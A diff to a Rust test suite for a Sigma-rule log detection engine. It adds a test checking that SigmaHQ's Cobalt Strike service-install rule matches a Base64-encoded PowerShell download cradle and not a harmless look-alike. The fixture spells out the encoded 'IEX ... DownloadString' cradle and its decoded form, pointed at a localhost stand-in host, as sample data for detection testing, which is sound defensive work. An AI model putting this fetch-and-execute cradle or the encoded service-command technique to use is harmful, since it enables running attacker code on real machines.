@@ -55,12 +55,11 @@ fn sigmahq_rules_load_with_reasoned_skips() {
     let Some(dir) = sigma() else { return };
     let mut report = LoadReport::default();
     report.add_path(&dir, false).expect("the fixtures folder reads");
-    // One rule uses `base64offset`, which faultline does not implement; every
-    // other webserver, process-creation, IIS-Configuration, log-clearing and
-    // service rule loads.
-    let reasons: Vec<&str> = report.skipped.iter().map(|s| s.reason.as_str()).collect();
-    assert_eq!(reasons, ["unsupported modifier `base64offset`"], "{:?}", report.skipped);
-    assert_eq!(report.rules.len(), 119);
+    // Every webserver, process-creation, IIS-Configuration, log-clearing and
+    // service rule loads (the Cobalt Strike service rule's `base64offset`
+    // included).
+    assert!(report.skipped.is_empty(), "{:?}", report.skipped);
+    assert_eq!(report.rules.len(), 120);
     assert!(
         report.rules.iter().all(|r| r.meta.author.is_some()),
         "the licence asks that hits show the author"
@@ -290,6 +289,53 @@ fn a_correlation_over_silent_process_events_names_their_app_pool() {
     for d in &report.detections {
         assert_eq!(d.app_pool.as_deref(), Some("ShopPool"), "{d:#?}");
     }
+}
+
+/// SigmaHQ's Cobalt Strike service rule finds a service whose command
+/// decodes a download cradle from Base64 (`base64offset`: the cradle sits
+/// five bytes into the encoded script), and not one decoding something
+/// else through the same command.
+#[test]
+fn a_base64offset_rule_finds_the_encoded_cradle_and_not_its_look_alike() {
+    let Some(dir) = sigma() else { return };
+    let rule = dir.join(
+        "rules/windows/builtin/system/service_control_manager/win_system_cobaltstrike_service_installs.yml",
+    );
+    let service = |record: u32, name: &str, encoded: &str| {
+        format!(
+            "<Event><System><Provider Name=\"Service Control Manager\"/><EventID>7045</EventID>\
+             <TimeCreated SystemTime=\"2025-11-24T10:0{record}:00Z\"/><EventRecordID>{record}</EventRecordID>\
+             <Channel>System</Channel><Computer>WEB01</Computer></System><EventData>\
+             <Data Name=\"ServiceName\">{name}</Data><Data Name=\"ImagePath\">powershell -c \
+             iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{encoded}')))</Data>\
+             </EventData></Event>"
+        )
+    };
+    let events = format!(
+        "<Events>{}{}</Events>",
+        // `$u=1;IEX (New-Object Net.Webclient).DownloadString('http://127.0.0.1:31337/')`
+        service(
+            1,
+            "updater",
+            "JHU9MTtJRVggKE5ldy1PYmplY3QgTmV0LldlYmNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly8xMjcuMC4wLjE6MzEzMzcvJyk="
+        ),
+        // `$u=1;Write-Output (Get-Date).ToString('http://127.0.0.1:31337/')`
+        service(
+            2,
+            "clock",
+            "JHU9MTtXcml0ZS1PdXRwdXQgKEdldC1EYXRlKS5Ub1N0cmluZygnaHR0cDovLzEyNy4wLjAuMTozMTMzNy8nKQ=="
+        ),
+    );
+    let tmp = tempfile::tempdir().expect("tempdir");
+    let file = tmp.path().join("System.xml");
+    std::fs::write(&file, events).expect("writes");
+    let mut rules = LoadReport::default();
+    rules.add_path(&rule, false).expect("reads");
+    assert!(rules.skipped.is_empty(), "{:?}", rules.skipped);
+    let report = run(&[file], rules);
+    let found: Vec<(&str, Option<u64>)> =
+        report.detections.iter().map(|d| (d.rule.meta.title.as_str(), d.evidence.record)).collect();
+    assert_eq!(found, [("CobaltStrike Service Installations - System", Some(1))]);
 }
 
 /// The pack on the real captures a web shell left in Sysmon beyond process
